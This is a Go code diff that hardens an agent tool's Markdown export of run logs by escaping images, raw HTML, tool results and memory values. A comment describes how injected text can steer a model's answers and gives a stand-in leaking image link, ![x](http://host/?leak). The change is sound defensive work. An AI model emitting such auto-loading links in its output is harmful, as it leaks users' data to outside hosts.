@@ -56,27 +56,27 @@ func Markdown(l *Loaded) string {
 			fmt.Fprintf(&b, "- model changed to %s\n", d.Model)
 		case *engine.Decided:
 			if len(d.ToolCalls) == 0 {
-				fmt.Fprintf(&b, "## %s\n\n%s\n\n", cmp.Or(ev.Agent, "agentty"), d.Text)
+				fmt.Fprintf(&b, "## %s\n\n%s\n\n", cmp.Or(ev.Agent, "agentty"), inert(d.Text))
 				continue
 			}
 			if d.Text != "" {
-				fmt.Fprintf(&b, "%s\n\n", d.Text)
+				fmt.Fprintf(&b, "%s\n\n", inert(d.Text))
 			}
 		case *engine.ToolFinished:
-			fmt.Fprintf(&b, "- step %d: `%s` → %s: %s\n", ev.Step, d.Name, d.Status, engine.OneLine(d.Result, 200))
+			fmt.Fprintf(&b, "- step %d: %s → %s: %s\n", ev.Step, codeSpan(d.Name), d.Status, codeSpan(engine.OneLine(d.Result, 200)))
 		case *engine.StepFinished:
 			if d.ToolCalls > 0 {
 				b.WriteString("\n")
 			}
 		case *engine.MemoryChanged:
 			if d.Op == engine.MemorySet {
-				fmt.Fprintf(&b, "- memory: %s = %s\n", d.Key, d.Value)
+				fmt.Fprintf(&b, "- memory: %s = %s\n", codeSpan(d.Key), codeSpan(engine.OneLine(d.Value, 400)))
 			} else {
-				fmt.Fprintf(&b, "- memory: forgot %s\n", d.Key)
+				fmt.Fprintf(&b, "- memory: forgot %s\n", codeSpan(d.Key))
 			}
 		case *engine.RunFinished:
 			if d.StopReason != engine.StopAnswered {
-				fmt.Fprintf(&b, "_Run stopped: %s. %s_\n\n", d.StopReason, d.Error)
+				fmt.Fprintf(&b, "_Run stopped: %s._ %s\n\n", d.StopReason, codeSpan(engine.OneLine(d.Error, 400)))
 			}
 		}
 	}
@@ -96,20 +96,56 @@ func subRunMarkdown(b *strings.Builder, ev engine.Event) {
 		fmt.Fprintf(b, "%s**%s** was asked (`%s`): %s\n%s\n", q, ev.Agent, ev.Run, engine.OneLine(d.Task, 200), q)
 	case *engine.Decided:
 		if len(d.ToolCalls) == 0 {
-			fmt.Fprintf(b, "%s**%s** answered: %s\n%s\n", q, ev.Agent, engine.OneLine(d.Text, 400), q)
+			fmt.Fprintf(b, "%s**%s** answered: %s\n%s\n", q, ev.Agent, inert(engine.OneLine(d.Text, 400)), q)
 		}
 	case *engine.ToolFinished:
-		fmt.Fprintf(b, "%s- %s, step %d: `%s` → %s: %s\n", q, ev.Agent, ev.Step, d.Name, d.Status, engine.OneLine(d.Result, 200))
+		fmt.Fprintf(b, "%s- %s, step %d: %s → %s: %s\n", q, ev.Agent, ev.Step, codeSpan(d.Name), d.Status, codeSpan(engine.OneLine(d.Result, 200)))
 	case *engine.MemoryChanged:
 		fmt.Fprintf(b, "%s- %s, memory: %s %s\n", q, ev.Agent, d.Op, d.Key)
 	case *engine.Handoff:
 		fmt.Fprintf(b, "%s- %s handed off to **%s**\n", q, ev.Agent, d.To)
 	case *engine.RunFinished:
 		if d.StopReason != engine.StopAnswered {
-			fmt.Fprintf(b, "%s_%s stopped: %s. %s_\n%s\n", q, ev.Agent, d.StopReason, d.Error, q)
+			fmt.Fprintf(b, "%s_%s stopped: %s._ %s\n%s\n", q, ev.Agent, d.StopReason, codeSpan(engine.OneLine(d.Error, 400)), q)
 		}
 	}
 }
+
+// The export is read in Markdown viewers, and much of it is someone
+// else's text: tool results are files and pages of the workspace or the
+// web, answers are a model's (which such text may steer). A viewer loads
+// an image, or raw HTML's, as it opens the file, so a result holding
+// ![x](http://host/?leak) would call out. Results, memory and errors are
+// code spans (shown as they are, nothing loaded); answers keep their
+// Markdown, with images and raw HTML made text.
+
+// codeSpan returns s as an inline code span: fenced with more backticks
+// than any run in s, so that nothing in it ends the span.
+func codeSpan(s string) string {
+	longest, run := 0, 0
+	for _, c := range s {
+		if c == '`' {
+			run++
+			longest = max(longest, run)
+		} else {
+			run = 0
+		}
+	}
+	fence := strings.Repeat("`", longest+1)
+	if strings.HasPrefix(s, "`") || strings.HasSuffix(s, "`") || s == "" {
+		s = " " + s + " "
+	}
+	return fence + s + fence
+}
+
+// inert returns Markdown with nothing a viewer would load by itself: an
+// image (![…]) becomes text, and raw HTML (<img …>, <iframe …>) is
+// escaped. Links stay links: following one takes a click.
+func inert(s string) string {
+	return inertReplacer.Replace(s)
+}
+
+var inertReplacer = strings.NewReplacer("![", `!\[`, "<", "&lt;")
 
 func orUntitled(s string) string {
 	if s == "" {
